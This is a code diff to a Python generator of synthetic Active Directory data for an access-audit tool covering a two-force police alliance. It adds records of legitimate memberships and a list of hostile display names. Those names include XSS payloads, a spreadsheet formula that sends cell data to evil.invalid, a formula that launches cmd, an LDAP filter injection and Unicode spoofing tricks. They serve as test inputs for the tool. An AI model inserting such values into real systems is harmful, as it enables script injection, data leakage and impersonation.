@@ -55,6 +55,7 @@ from .model import (
 )
 from .sample_apps import plant_apps
 from .sample_entra import plant_entra
+from .sample_legit import LEGIT_SCHEMA, legit_frame
 from .sample_separation import plant_separation
 
 DOMAIN: Final = "alliance.local"
@@ -66,6 +67,8 @@ MIXED_MIN_MEMBERS: Final = 5
 MIXED_MIN_SHARE: Final = 0.1
 #: A domain of the former forces retired before the alliance (its users remain as FSPs).
 RETIRED_DOMAIN_SID: Final = "S-1-5-21-1004336348-1177238915-682003330"
+#: Groups of the shared-services OU (both forces' people, legitimately).
+SHARED_GROUPS: Final = ("SS-Print-Users", "SS-VPN-Users", "SS-Email-Archive")
 #: Resource groups that nest department groups (the rest hold direct members only).
 NEST_CAP: Final = 32
 
@@ -261,6 +264,22 @@ HOSTILE: Final = (
     "\tTabbed",
 )
 
+#: ... and these in display names (of accounts that also carry a hostile description): markup,
+#: spreadsheet formulas, an LDAP filter, and the Unicode tricks that make one name look like
+#: another: a right-to-left override (U+202E), a zero-width joiner (U+200D), and homoglyphs
+#: (Cyrillic "а" U+0430 and "А" U+0410 for Latin a and A).
+HOSTILE_NAMES: Final = (
+    "<script>window.__xss=1</script>",
+    '=HYPERLINK("http://evil.invalid/?q="&A1,"Click for payslip")',
+    "*)(uid=*",
+    "Rhys Evans \u202egpj.exe",
+    "Si\u00e2n\u200dJones",
+    "D\u0430fydd Jones",
+    "\u0410dministrator",
+    '"><img src=x onerror="window.__xss=1">',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+)
+
 # Builtin groups: (name, rid or builtin rid, dn container, privileged, builtin alias?)
 _BUILTINS: Final = (
     ("Domain Admins", 512, USERS_CN, True, False),
@@ -289,6 +308,9 @@ class Sample:
     config: dict[str, Any] = field(default_factory=dict)
     exports: dict[str, pl.DataFrame] = field(default_factory=dict)  # application CSV rows
     entra: dict[str, pl.DataFrame] = field(default_factory=dict)  # the Entra tenant's tables
+    #: What the generator planted as legitimate (:mod:`accessaudit.sample_legit`): no finding
+    #: may touch it.
+    legitimate: pl.DataFrame = field(default_factory=lambda: empty(LEGIT_SCHEMA))
 
     @property
     def source(self) -> str:
@@ -377,6 +399,22 @@ def _ascii(expr: pl.Expr) -> pl.Expr:
     return expr.str.normalize("NFKD").str.to_lowercase().str.replace_all(r"[^a-z0-9]", "")
 
 
+def _pairs(accounts: pl.Series | None, groups: Sequence[tuple[str, int | None]]) -> pl.DataFrame:
+    """Rows ``account_id``, ``group_name``, ``depth``: every account x every (group, depth);
+    the accounts alone when there are no groups, the groups alone when there are no accounts."""
+    if accounts is not None and not groups:  # account-only rows
+        return pl.DataFrame({"account_id": accounts}).with_columns(
+            group_name=pl.lit(None, pl.String), depth=pl.lit(None, pl.Int32)
+        )
+    by_group = pl.DataFrame(
+        {"group_name": [g for g, _ in groups], "depth": [d for _, d in groups]},
+        schema={"group_name": pl.String, "depth": pl.Int32},
+    )
+    if accounts is None:
+        return by_group.with_columns(account_id=pl.lit(None, pl.String))
+    return pl.DataFrame({"account_id": accounts}).join(by_group, how="cross")
+
+
 class _Builder:
     """Accumulates groups, edges and truth rows while planting."""
 
@@ -390,6 +428,9 @@ class _Builder:
         self.truth: list[pl.DataFrame] = []
         self.truth_ids: list[pl.DataFrame] = []  # rows already keyed by object ids
         self.reach: list[pl.Series] = []  # accounts with cross access through a group's grant
+        self.legit: list[pl.DataFrame] = []  # legitimate rows naming groups (sample_legit)
+        self.legit_groups: list[tuple[str, str, str, int, str]] = []  # group-level ones
+        self.legit_ids: list[pl.DataFrame] = []  # legitimate rows keyed by object ids
         self.next_rid = 5_000_000
         self._parents: dict[str, list[str]] = {}
         self._parents_at = -1
@@ -460,30 +501,39 @@ class _Builder:
         member_group: str | None = None,
     ) -> None:
         """Record truth rows: every account x every (group name, depth)."""
-        if accounts is not None and not groups:  # account-only findings
-            rows = pl.DataFrame({"account_id": accounts}).with_columns(
-                group_name=pl.lit(None, pl.String), depth=pl.lit(None, pl.Int32)
-            )
-        elif accounts is None:
-            rows = pl.DataFrame(
-                {"group_name": [g for g, _ in groups], "depth": [d for _, d in groups]},
-                schema={"group_name": pl.String, "depth": pl.Int32},
-            ).with_columns(account_id=pl.lit(None, pl.String))
-        else:
-            rows = pl.DataFrame({"account_id": accounts}).join(
-                pl.DataFrame(
-                    {"group_name": [g for g, _ in groups], "depth": [d for _, d in groups]},
-                    schema={"group_name": pl.String, "depth": pl.Int32},
-                ),
-                how="cross",
-            )
         self.truth.append(
-            rows.with_columns(
+            _pairs(accounts, groups).with_columns(
                 rule_id=pl.lit(rule),
                 member_group_name=pl.lit(member_group, pl.String),
                 plant=pl.lit(plant),
             )
         )
+
+    def allow(
+        self,
+        kind: str,
+        reason: str,
+        accounts: pl.Series | None,
+        groups: Sequence[tuple[str, int | None]],
+    ) -> None:
+        """Record legitimate rows (:mod:`accessaudit.sample_legit`): every account x every
+        (group name, depth); ``accounts`` None for rows that name the group alone."""
+        self.legit.append(
+            _pairs(accounts, groups).with_columns(kind=pl.lit(kind), reason=pl.lit(reason))
+        )
+
+    def allow_rows(self, kind: str, reason: str, rows: pl.DataFrame) -> None:
+        """Record legitimate rows given as ``account_id`` + ``group_name`` (+ ``depth``)."""
+        self.legit.append(rows.with_columns(kind=pl.lit(kind), reason=pl.lit(reason)))
+
+    def allow_nesting(self, kind: str, reason: str, child: str) -> None:
+        """Record that every path from ``child`` up to its ancestors *so far* is legitimate
+        (one row per ancestor; called before any plant nests the group across the line)."""
+        self.legit_groups.extend((kind, child, g, d, reason) for g, d in self.ancestors(child))
+
+    def allow_ids(self, kind: str, reason: str, rows: pl.DataFrame) -> None:
+        """Record legitimate rows given by object ids (any of ``LEGIT_KEYS``, and depth)."""
+        self.legit_ids.append(rows.with_columns(kind=pl.lit(kind), reason=pl.lit(reason)))
 
     def ancestors(self, name: str) -> list[tuple[str, int]]:
         """Ancestors by construction of the layered trees (shortest depth), for truth rows."""
@@ -643,8 +693,16 @@ def generate(
     b.nested("WMP-CYC-B", "WMP-CYC-C")
     b.nested("WMP-CYC-C", "WMP-CYC-A")
     b.nested("WMP-CYC-A", res_groups["wmp"][0])
+    # every nesting so far stays inside one force: the plants below add the cross ones
+    for f in FORCES:
+        for name in (*(f"{f.prefix}DEPT-{d}" for d in f.departments), *res_groups[f.id]):
+            b.allow_nesting("same-force-nesting", f"nesting inside {f.name}'s own groups", name)
+    for name in ("WMP-CYC-A", "WMP-CYC-B", "WMP-CYC-C"):
+        b.allow_nesting("cycle", "a same-force nesting cycle of legacy roles", name)
+    for name in ("Domain Admins", "Enterprise Admins"):
+        b.allow_nesting("privileged-nesting", "built-in nesting of the hosted admin groups", name)
     # shared services
-    for name in ("SS-Print-Users", "SS-VPN-Users", "SS-Email-Archive"):
+    for name in SHARED_GROUPS:
         b.group(name, f"OU=Groups,{SHARED_OU}", scope="universal", description="Shared service")
     # an unattributed group and a group whose OU and prefix disagree
     b.group("Legacy-Scanner-Users", USERS_CN, description="Who created this?")
@@ -664,19 +722,53 @@ def generate(
         b.members(f"{f.prefix}ALL-Staff", staff["account_id"])
         for d in f.departments:
             b.members(f"{f.prefix}DEPT-{d}", staff.filter(pl.col("department") == d)["account_id"])
-        # a few direct same-force members of resource groups (never movers)
+        # legitimate for all but the movers (their old force's groups are planted below)
         cand = staff.filter(~pl.col("mover"))
+        b.allow_rows(
+            "own-force-staff",
+            f"{f.name} staff in their own force's all-staff and department groups",
+            pl.concat(
+                [
+                    cand.select("account_id", group_name=pl.lit(f"{f.prefix}ALL-Staff")),
+                    cand.select(
+                        "account_id", group_name=pl.lit(f"{f.prefix}DEPT-") + pl.col("department")
+                    ),
+                ]
+            ).with_columns(depth=pl.lit(0, pl.Int32)),
+        )
+        # a few direct same-force members of resource groups (never movers)
+        res_ids: list[pl.Series] = []
         for r in res_groups[f.id]:
             pick = rng.choice(cand.height, size=min(cand.height, 3), replace=False)
-            b.members(r, cand[pick.tolist()]["account_id"])
+            res_ids.append(cand[pick.tolist()]["account_id"])
+            b.members(r, res_ids[-1])
+        b.allow_rows(
+            "own-force-resource-member",
+            f"{f.name} staff directly in their own force's resource group",
+            pl.DataFrame(
+                {
+                    "account_id": pl.concat(res_ids),
+                    "group_name": [
+                        r for r, ids in zip(res_groups[f.id], res_ids, strict=True) for _ in ids
+                    ],
+                }
+            ).with_columns(depth=pl.lit(0, pl.Int32)),
+        )
     cyc = people.filter((pl.col("org") == "wmp") & ~pl.col("mover")).head(15)["account_id"]
     for i, name in enumerate(("WMP-CYC-A", "WMP-CYC-B", "WMP-CYC-C")):
         b.members(name, cyc[i * 5 : i * 5 + 5])
+        b.allow(
+            "cycle", "West Mercia staff in a same-force cycle", cyc[i * 5 : i * 5 + 5], [(name, 0)]
+        )
     # primary group: Domain Users for everyone (unless planted otherwise below)
     # shared groups hold people of both forces (legitimate)
     both = people.filter(~pl.col("mover"))
-    b.members("SS-Print-Users", both.sample(n=min(both.height, 40), seed=seed)["account_id"])
-    b.members("SS-VPN-Users", both.sample(n=min(both.height, 25), seed=seed + 1)["account_id"])
+    shared_why = "shared-services group, open to both forces until the dated split"
+    for name, n, pick_seed in (("SS-Print-Users", 40, seed), ("SS-VPN-Users", 25, seed + 1)):
+        picked = both.sample(n=min(both.height, n), seed=pick_seed)["account_id"]
+        b.members(name, picked)
+        b.allow("shared-group", shared_why, picked, [(name, 0)])
+    b.allow("shared-group", shared_why, None, [(g, None) for g in SHARED_GROUPS])
 
     # --- plants ----------------------------------------------------------------------------
     # Each plant draws accounts from a pool without replacement so plants never overlap.
@@ -729,9 +821,14 @@ def generate(
     admins = _admin_accounts(rng, n_admins, domain_sid, now)
     wmp_admins = admins.filter(pl.col("org") == "wmp")["account_id"]
     warks_admins = admins.filter(pl.col("org") == "warks")["account_id"]
-    b.members("Domain Admins", wmp_admins[:3])
-    b.members("Enterprise Admins", wmp_admins[3:4])
-    b.members("Backup Operators", wmp_admins[4:6])
+    own_admin = "West Mercia admins in the built-in groups of the domain it hosts"
+    for name, picked in (
+        ("Domain Admins", wmp_admins[:3]),
+        ("Enterprise Admins", wmp_admins[3:4]),
+        ("Backup Operators", wmp_admins[4:6]),
+    ):
+        b.members(name, picked)
+        b.allow("own-force-admin", own_admin, picked, [(name, 0)])
     b.members("Domain Admins", warks_admins)
     b.plant(
         "cross-org-privileged-access",
@@ -765,13 +862,24 @@ def generate(
         ("WMP-PRJ-Joint-Firearms-Licensing", "wmp", 20, 12),
         ("WARKS-PRJ-Major-Crime-Review", "warks", 15, 10),
     ):
-        b.members(grp, draw(owner, n_own))
+        majority = draw(owner, n_own)
+        b.members(grp, majority)
+        b.allow(
+            "own-force-member", "the owning force's members of a mixed group", majority, [(grp, 0)]
+        )
         minority = draw(other[owner], n_other)
         b.members(grp, minority)
         b.plant("mixed-group", "mixed-project", None, [(grp, 0)])
         b.plant("cross-org-direct-member", "mixed-project", minority, [(grp, 0)])
     # the OU/prefix conflict group holds Warwickshire people (it resolves to Warwickshire)
-    b.members("WMP-RES-Legacy-CAD", draw("warks", 6))
+    cad = draw("warks", 6)
+    b.members("WMP-RES-Legacy-CAD", cad)
+    b.allow(
+        "own-force-member",
+        "Warwickshire staff in a group whose Warwickshire OU wins over its WMP- prefix",
+        cad,
+        [("WMP-RES-Legacy-CAD", 0)],
+    )
     b.plant("conflicting-attribution", "ou-prefix-conflict", None, [("WMP-RES-Legacy-CAD", 0)])
     # (f) unattributed: accounts with no signal at all, and two groups nobody claims
     unattr = _unattributed_accounts(rng, n_unattr, domain_sid, now)
@@ -800,6 +908,20 @@ def generate(
     for i, sid_acct in enumerate(services["account_id"].to_list()):
         b.members(res_groups["wmp"][i % len(res_groups["wmp"])], [sid_acct])
         b.members(res_groups["warks"][i % len(res_groups["warks"])], [sid_acct])
+    b.allow_rows(
+        "service-account",
+        "a Shared Services account in a resource group (the account is a split decision)",
+        pl.DataFrame(
+            {
+                "account_id": pl.concat([services["account_id"]] * 2),
+                "group_name": [
+                    res_groups[org][i % len(res_groups[org])]
+                    for org in ("wmp", "warks")
+                    for i in range(services.height)
+                ],
+            }
+        ).with_columns(depth=pl.lit(0, pl.Int32)),
+    )
     computers = _computer_accounts(rng, n_computers, domain_sid, now)
 
     # Domain Users as primary group for everyone but the planted primary-group accounts
@@ -807,6 +929,12 @@ def generate(
     for frame in (persons_pg, admins["account_id"], unattr["account_id"], services["account_id"]):
         b.members("Domain Users", frame, via=Via.PRIMARY_GROUP)
     b.members("Domain Computers", computers["account_id"], via=Via.PRIMARY_GROUP)
+    b.allow(
+        "primary-group",
+        "the domain's shared primary groups, of every account of both forces",
+        None,
+        [("Domain Users", None), ("Domain Computers", None)],
+    )
     # Managers, managedBy, sIDHistory, secondments, an empty legacy group: from their own
     # generator, so the plants above pick the same accounts with or without them.
     people = plant_separation(
@@ -825,23 +953,35 @@ def generate(
     # --- assemble --------------------------------------------------------------------------
     all_accounts = pl.concat(
         [
-            people.select(ACCOUNTS_SCHEMA.names()),
+            people.select(  # AD account-state columns the sample does not model stay null
+                pl.col(c) if c in people.columns else pl.lit(None, t).alias(c)
+                for c, t in ACCOUNTS_SCHEMA.items()
+            ),
             admins.select(ACCOUNTS_SCHEMA.names()),
             unattr.select(ACCOUNTS_SCHEMA.names()),
             services.select(ACCOUNTS_SCHEMA.names()),
             computers.select(ACCOUNTS_SCHEMA.names()),
         ]
     )
-    # hostile text in a few display names and descriptions (never in attribution signals)
+    # hostile text in a few display names and descriptions (never in attribution signals;
+    # the DN keeps the person's name). Synced to Entra with the rest of the account.
     host = pl.Series(HOSTILE)
     idx = rng.choice(people.height, size=min(people.height, len(HOSTILE)), replace=False)
     hostile_ids = people[idx.tolist()]["account_id"]
+    named = hostile_ids[: len(HOSTILE_NAMES)]
     all_accounts = all_accounts.with_columns(
         description=pl.when(pl.col("account_id").is_in(hostile_ids.to_list()))
         .then(
             pl.col("account_id").replace_strict(hostile_ids, host[: len(hostile_ids)], default=None)
         )
-        .otherwise(pl.col("description"))
+        .otherwise(pl.col("description")),
+        display_name=pl.when(pl.col("account_id").is_in(named.implode()))
+        .then(
+            pl.col("account_id").replace_strict(
+                named, pl.Series(HOSTILE_NAMES[: named.len()]), default=None
+            )
+        )
+        .otherwise(pl.col("display_name")),
     )
     all_accounts = conform(all_accounts, ACCOUNTS_SCHEMA)
 
@@ -864,12 +1004,18 @@ def generate(
     # Foreign security principals: users of the retired pre-alliance domains, still members
     # (as CN=<SID>,CN=ForeignSecurityPrincipals) of a resource group of each force. No rule
     # fires on them (no organisation can be read from a bare SID); collectors must keep them.
+    fsp = {res_groups["warks"][2]: "1105", res_groups["wmp"][3]: "1321"}
     fsp_edges = pl.DataFrame(
         {
-            "group_id": [name_to_id[res_groups["warks"][2]], name_to_id[res_groups["wmp"][3]]],
-            "member_id": [f"{RETIRED_DOMAIN_SID}-1105", f"{RETIRED_DOMAIN_SID}-1321"],
+            "group_id": [name_to_id[g] for g in fsp],
+            "member_id": [f"{RETIRED_DOMAIN_SID}-{rid}" for rid in fsp.values()],
         }
     ).with_columns(member_kind=pl.lit(MemberKind.FOREIGN.value), via=pl.lit(Via.MEMBER.value))
+    b.allow_rows(
+        "foreign-principal",
+        "a user of a retired pre-alliance domain: no force can be read from a bare SID",
+        fsp_edges.select(account_id="member_id", group_name=pl.Series(list(fsp)), depth=0),
+    )
     memberships = pl.concat([acct_edges.select(nest_edges.columns), nest_edges, fsp_edges])
     memberships = conform(
         memberships.with_columns(source=pl.lit(SOURCE)).unique(
@@ -887,13 +1033,24 @@ def generate(
     )
     every_account = pl.concat([all_accounts, tenant["accounts"]]) if tenant else all_accounts
     truth = _truth_frame(b, name_map, every_account, now)
+    legit = legit_frame(b.legit, b.legit_groups, b.legit_ids, name_map)
     tables = {
         "accounts": all_accounts,
         "groups": groups,
         "memberships": memberships,
         "grants": empty(GRANTS_SCHEMA),
     }
-    return Sample(tables, truth, now, seed, domain_sid, sample_settings_dict(), exports, tenant)
+    return Sample(
+        tables,
+        truth,
+        now,
+        seed,
+        domain_sid,
+        sample_settings_dict(),
+        exports,
+        tenant,
+        legitimate=legit,
+    )
 
 
 #: Rules whose findings are an account's cross-force access (what "inactive" rows derive from).
